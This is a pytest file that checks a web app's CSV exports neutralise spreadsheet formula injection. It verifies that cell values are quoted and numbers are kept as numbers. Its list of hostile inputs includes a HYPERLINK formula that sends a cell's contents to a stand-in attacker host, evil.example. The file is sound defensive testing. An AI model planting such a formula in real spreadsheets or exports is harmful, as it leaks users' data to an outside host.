"""Exports open in a spreadsheet as text and numbers, never as formulas."""
import csv
import io
from types import SimpleNamespace

import pytest
from sqlalchemy import select

from tests import factories
from tests.app.test_reports import _hand_made_round
from webapp.extensions import db
from webapp.models import ActionEvent, ActionItem, Question, SurveyRound, Team, Theme
from webapp.reports import export
from webapp.spreadsheet import csv_text, safe_cell

# What a spreadsheet would run: a formula, or a leading tab or carriage return.
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B2,"details")', "+1", "-2+3", "@SUM(A1)",
           "\tx", "\rx"]


def _rows(text):
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value
    assert _rows(csv_text(["text"], [[value]]))[1] == ["'" + value]


@pytest.mark.parametrize("value", ["", "Sales", "a=b", "2027-03-01", "'quoted", " =x", "5"])
def test_other_text_is_written_as_it_is(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value, written", [(-3.5, "-3.5"), (-30.0, "-30.0"), (12.3, "12.3"),
                                            (0, "0"), (5, "5"), (None, "")])
def test_numbers_stay_numbers(value, written):
    assert safe_cell(value) == value
    assert _rows(csv_text(["value"], [[value]]))[1] == [written]


class _Named:
    """Something that is written as its text, such as a model's name."""

    def __init__(self, text):
        self.text = text

    def __str__(self):
        return self.text


def test_other_values_are_written_as_their_text_made_safe():
    # A cell that is neither text nor a number is written as its text, and that text
    # passes the same check: it may well be something a person wrote.
    assert safe_cell(_Named("=1+1")) == "'=1+1"
    assert safe_cell(_Named("Sales")) == "Sales"
    assert _rows(csv_text(["name"], [[_Named("@SUM(A1)")]]))[1] == ["'@SUM(A1)"]


def test_the_action_items_export_neutralises_what_people_wrote(app, client, auth, people,
                                                               make_user):
    owners = make_user(team="Sales"), make_user(team="Marketing")
    with app.app_context():
        for value in HOSTILE:
            item = db.session.get(ActionItem, factories.make_item(owners=owners))
            item.title, item.success_measure = value, value
            item.events.append(ActionEvent(kind="update", actor_id=owners[0].id, text=value))
        db.session.commit()
    auth.login_as(people["member"])
    rows = list(csv.DictReader(io.StringIO(client.get("/actions/export.csv").get_data(
        as_text=True))))
    assert sorted(row["title"] for row in rows) == sorted("'" + value for value in HOSTILE)
    for row in rows:
        assert row["success_measure"] == row["latest_update"] == row["title"]
        assert row["id"].isdigit() and row["ideas"] == "0"


def _round_with_hostile_texts(app, make_user):
    """A hand-made round whose questions, title, idea, theme, item and team read as formulas."""
    round_id = _hand_made_round(app, make_user)
    with app.app_context():
        questions = db.session.scalars(select(Question).where(Question.round_id == round_id))
        for question, value in zip(questions, HOSTILE):
            question.text = value
        db.session.get(SurveyRound, round_id).title = "=1+1"
        db.session.commit()
        idea_id = factories.make_idea(round_id, text="-2+3 more joint calls")
        theme_id = factories.make_theme(round_id, idea_ids=[idea_id])
        db.session.get(Theme, theme_id).custom_label = "@SUM(A1)"
        factories.make_item(round_id=round_id, title="+1 shared dashboard")
        db.session.scalar(select(Team).where(Team.name == "Sales")).name = "=Sales"
        db.session.commit()
    return round_id


def _runs_as_formula(row, cell):
    """True if ``cell`` would run, unless it is a gap (a negative number)."""
    if cell.startswith("-"):
        return row["measure"] != "gap points"
    return cell.startswith(("=", "+", "@", "\t", "\r"))


def test_the_report_export_neutralises_texts_and_keeps_gaps_numbers(app, client, auth, people,
                                                                    make_user):
    round_id = _round_with_hostile_texts(app, make_user)
    auth.login_as(people["leader"])
    text = client.get(f"/rounds/{round_id}/report.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    subjects = {row["subject"] for row in rows}
    assert {"'" + value for value in HOSTILE[:4]} <= subjects, "question texts"
    assert {"'@SUM(A1)", "'-2+3 more joint calls", "'+1 shared dashboard", "'=1+1"} <= subjects
    assert "'=Sales" in {row["team"] for row in rows}
    gaps = [row for row in rows if row["measure"] == "gap points"]
    assert gaps and {row["value"] for row in gaps} == {"-30.0"}
    assert gaps[0]["team"] == "'=Sales − Marketing"
    assert [row for row in rows if any(_runs_as_formula(row, cell) for cell in row.values())] \
        == []


def test_report_figures_are_numbers_to_one_decimal():
    team = SimpleNamespace(name="-Ops")
    summary = SimpleNamespace(index=45.04999, delta=-3.25, top_idea=None, done_items=[], gaps=[
        SimpleNamespace(label="+Lever", value=-3.5, words="Ops more favourable by 4 points")])
    report = SimpleNamespace(
        participation=[], items=[], index=45.04999, delta=-3.25, themes=[], bridging=[],
        divisive=[], action_items=[], trend=[], lineage=None, pair=[team, team], goals=[],
        gap_label="-Ops − Ops", summary=summary, perception=None,
        recognitions=[], pairing=None, discussion=[],
        levers=[SimpleNamespace(label="+Lever", gap=-3.5, cells=[
            SimpleNamespace(share=0.123), SimpleNamespace(share=None)])])
    rows = list(export.rows(report))
    assert [row[-1] for row in rows[:3]] == [45.0, -3.2, -3.5], "the summary, first"
    rows = rows[3:]
    assert rows[0] == ("levers", "+Lever", "-Ops", "favourable %", 12.3)
    assert rows[1][-1] == ""
    assert rows[2][-1] == -3.5
    assert [row[-1] for row in rows[3:]] == [45.0, -3.2]
    written = _rows(export.to_csv(report))
    assert written[3] == ["summary", "biggest gap: +Lever (Ops more favourable by 4 points)",
                          "'-Ops − Ops", "gap points", "-3.5"]
    written = written[3:]
    assert written[1] == ["levers", "'+Lever", "'-Ops", "favourable %", "12.3"]
    assert written[3] == ["levers", "'+Lever", "'-Ops − Ops", "gap points", "-3.5"]
    assert [row[-1] for row in written[4:]] == ["45.0", "-3.2"]
